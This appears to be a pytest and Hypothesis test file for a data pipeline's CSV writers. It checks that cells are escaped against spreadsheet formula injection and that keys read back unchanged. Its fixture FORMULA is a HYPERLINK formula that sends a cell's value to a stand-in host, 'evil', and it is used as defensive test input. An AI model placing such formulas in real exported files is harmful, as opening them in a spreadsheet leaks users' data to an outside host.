"""A cell is never a formula, and always comes back."""

import csv
import io
import re
from pathlib import Path

import duckdb
import numpy as np
import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pipeline.cli.tables import print_rows, write_table
from pipeline.csv_text import csv_line, original
from pipeline.data.manifest import parse_manifest
from pipeline.evaluation.files import confusion_csv
from pipeline.segmentation.key_lists import read_csv

FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")'
KEY = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0") | st.sampled_from("=+-@\t\r\n'\",;"))


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@given(st.lists(KEY, min_size=1))
@example([FORMULA, "'" + FORMULA, "''", "'", "-1", "\t=1", "\r=1", "\uff1d1", "a;=1"])
def test_any_text_comes_back_and_no_cell_is_a_formula(keys: list[str]) -> None:
    (line,) = cells(csv_line([*keys, -1, None]))
    assert [original(cell) for cell in line[:-2]] == keys
    assert line[-2:] == ["-1", ""]
    assert not any(cell[:1] in tuple("=+-@\t\r\n\uff1d") for cell in line[:-2])


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_a_spreadsheet_set_to_another_delimiter_finds_no_formula_inside_a_cell(delimiter: str) -> None:
    text = csv_line([f"a{delimiter}{FORMULA}", "b"])
    for line in csv.reader(io.StringIO(text), delimiter=delimiter):
        assert not any(cell.startswith("=") for cell in line)


@given(st.lists(KEY.filter(bool), min_size=1, max_size=5))
def test_a_list_of_keys_that_was_written_is_the_list_that_is_read(keys: list[str]) -> None:
    written = "".join(map(csv_line, (["rank", "key"], *enumerate(keys)))).encode()
    read = [key for batch in read_csv("keys.csv", written, packed=False) for key in batch["key"].to_pylist()]
    assert read == keys


def test_an_inventory_which_others_write_is_taken_as_it_is() -> None:
    (batch,) = read_csv("inventory.csv", b'"\'=a"\n', packed=False, header=["key"])
    assert batch["key"].to_pylist() == ["'=a"]


def test_every_file_that_is_written_is_safe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    table = pa.table({"key": [FORMULA, "plain.jpg"], "score": [-0.5, 2.0], FORMULA: [["=1"], None]})
    write_table(tmp_path / "table.csv", table.to_reader())
    print_rows(table.to_reader(), "csv")
    written = (tmp_path / "table.csv").read_text()
    assert capsys.readouterr().out == written
    assert cells(written) == [
        ["key", "score", "'" + FORMULA], ["'" + FORMULA, "-0.5", '["=1"]'], ["plain.jpg", "2.0", ""],
    ]  # fmt: skip
    confusion = confusion_csv(np.eye(2, dtype=np.int64), ["road", FORMULA]).decode()
    assert cells(confusion) == [["truth", "road", "'" + FORMULA], ["road", "1", "0"], ["'" + FORMULA, "0", "1"]]


def test_a_manifest_may_have_been_written_so() -> None:
    written = "".join(map(csv_line, [("image", "mask", "split"), ("=1+1.jpg", "-m.png", "train")]))
    (row,) = parse_manifest(written.encode(), "m.csv")
    assert (row.image, row.mask) == ("=1+1.jpg", "-m.png")


def test_the_documented_way_back_gives_the_text_back(tmp_path: Path) -> None:
    page = (Path(__file__).parents[2] / "docs" / "insight.md").read_text()
    (statement,) = re.findall(r"```sql\n(SELECT regexp_replace.*)\n```", page)
    keys = [FORMULA, "'=x", "''", "'plain", "-1", "\uff1d1", "plain.jpg"]
    write_table(tmp_path / "todo.csv", pa.table({"key": keys}).to_reader())
    with duckdb.connect() as connection:
        rows = connection.execute(statement.replace("todo.csv", str(tmp_path / "todo.csv"))).fetchall()
    assert [row[0] for row in rows] == keys
